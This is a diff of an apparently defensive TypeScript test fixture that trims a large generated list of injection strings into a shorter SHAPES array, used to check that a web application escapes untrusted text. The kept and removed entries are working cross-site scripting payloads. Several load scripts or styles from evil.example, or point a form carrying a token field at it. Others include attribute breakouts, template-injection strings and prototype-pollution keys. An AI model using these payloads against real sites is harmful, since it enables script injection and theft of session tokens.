@@ -6,94 +6,37 @@ import { load } from './load.ts'
 
 const CALL = 'stolen(1)'
 
-/** Code in elements that run by themselves. */
-const ELEMENTS = [
-  `<script>${CALL}</script>`,
-  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
-  `<script src="data:text/javascript,${CALL}"></script>`,
+/** Elements that run by themselves, what leaves an attribute or element, addresses, and names that programs trip over. */
+export const SHAPES = [
   `<img src=x onerror=${CALL}>`,
-  `<img src=x onerror="${CALL}" class=injected>`,
-  `<IMG """><SCRIPT>${CALL}</SCRIPT>">`,
-  `<img/src/onerror=${CALL}>`,
-  `<image href=x onerror=${CALL}>`,
-  `<svg onload=${CALL}>`,
-  `<svg><script>${CALL}</script></svg>`,
-  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
-  `<svg><set attributeName=href to=javascript:${CALL}><a id=x><text>x</text></a>`,
-  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></foreignObject></svg>`,
+  `"><img src=x onerror="${CALL}" class=injected>`,
+  `'><svg onload=${CALL}>`,
+  `</script><script>${CALL}</script>`,
+  `</title><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `--></a></textarea><details open ontoggle=${CALL}>`,
   `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
-  `<math href="javascript:${CALL}">x</math>`,
-  `<iframe src="javascript:parent.${CALL}"></iframe>`,
   `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`,
-  `<object data="javascript:${CALL}"></object>`,
-  `<embed src="javascript:${CALL}">`,
-  `<video><source onerror=${CALL}></video>`,
-  `<audio src=x onerror=${CALL}>`,
-  `<details open ontoggle=${CALL}>`,
-  `<input autofocus onfocus=${CALL}>`,
-  `<select autofocus onfocus=${CALL}>`,
-  `<textarea autofocus onfocus=${CALL}>`,
-  `<marquee onstart=${CALL}>`,
-  `<body onload=${CALL}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
   `<style>@import 'data:,*{background:url(javascript:${CALL})}'</style>`,
   `<link rel=stylesheet href=//evil.example/x.css>`,
   `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
   `<base href=//evil.example/>`,
-  `<form action=//evil.example/><input name=token autofocus></form>`,
+  `<form action=//evil.example/><input name=token autofocus onfocus=${CALL}></form>`,
   `<a href="javascript:${CALL}">x</a>`,
-  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
-  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
-  `<xmp><img src=x onerror=${CALL}></xmp>`,
   `<plaintext>`,
-  `<portal src=//evil.example></portal>`,
-]
-
-/** What leaves the place in which a text stands. */
-const BREAKOUTS = [
-  ...['', '"', "'", '">', "'>", '</a>', '</title>', '</script>', '-->', ']]>', '`}', '</textarea>'],
-]
-
-/** Addresses, templates and names that programs trip over. */
-const OTHERS = [
   `javascript:${CALL}`,
-  `JaVaScRiPt:${CALL}`,
-  `java\tscript:${CALL}`,
-  `\u0001javascript:${CALL}`,
-  `javascript&colon;${CALL}`,
-  `vbscript:${CALL}`,
   `data:text/html,<script>${CALL}</script>`,
   `//evil.example/%0a${CALL}`,
-  `" onmouseover="${CALL}" x="`,
-  `' onfocus='${CALL}' autofocus tabindex=1 '`,
   `" style="animation:x" onanimationstart="${CALL}`,
-  `\${${CALL}}`,
-  `{{constructor.constructor('${CALL}')()}}`,
-  `<%= ${CALL} %>`,
-  `#{${CALL}}`,
-  `'-${CALL}-'`,
+  `' onfocus='${CALL}' autofocus tabindex=1 '`,
+  `\${${CALL}}{{constructor.constructor('${CALL}')()}}<%= ${CALL} %>`,
   `\\";${CALL}//`,
   `&lt;img src=x onerror=${CALL}&gt;`,
-  `&#60;script&#62;${CALL}&#60;/script&#62;`,
-  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
-  `%3Cscript%3E${CALL}%3C/script%3E`,
-  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
-  `＜script＞${CALL}＜/script＞`,
-  `<scr\u200bipt>${CALL}</scr\u200bipt>`,
   `\u202e<img src=x onerror=${CALL}>`,
-  `\u2028${CALL}\u2029`,
-  `\ufeff<svg onload=${CALL}>`,
-  `<img src=x onerror\u000b=${CALL}>`,
   `${'<b>'.repeat(500)}<img src=x onerror=${CALL}>`,
   'A'.repeat(4_000),
   ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'undefined', 'null'],
-  '[object Object]',
-  '../../clients/1',
-  '?state=ok#x',
-]
-
-/** More than four hundred. */
-export const SHAPES: string[] = [
-  ...new Set([...ELEMENTS.flatMap((element) => BREAKOUTS.map((breakout) => breakout + element)), ...OTHERS]),
+  ...['[object Object]', '../../clients/1', '?state=ok#x'],
 ]
 
 /** A fleet in which every text that others write is one of the shapes, or all of them. */
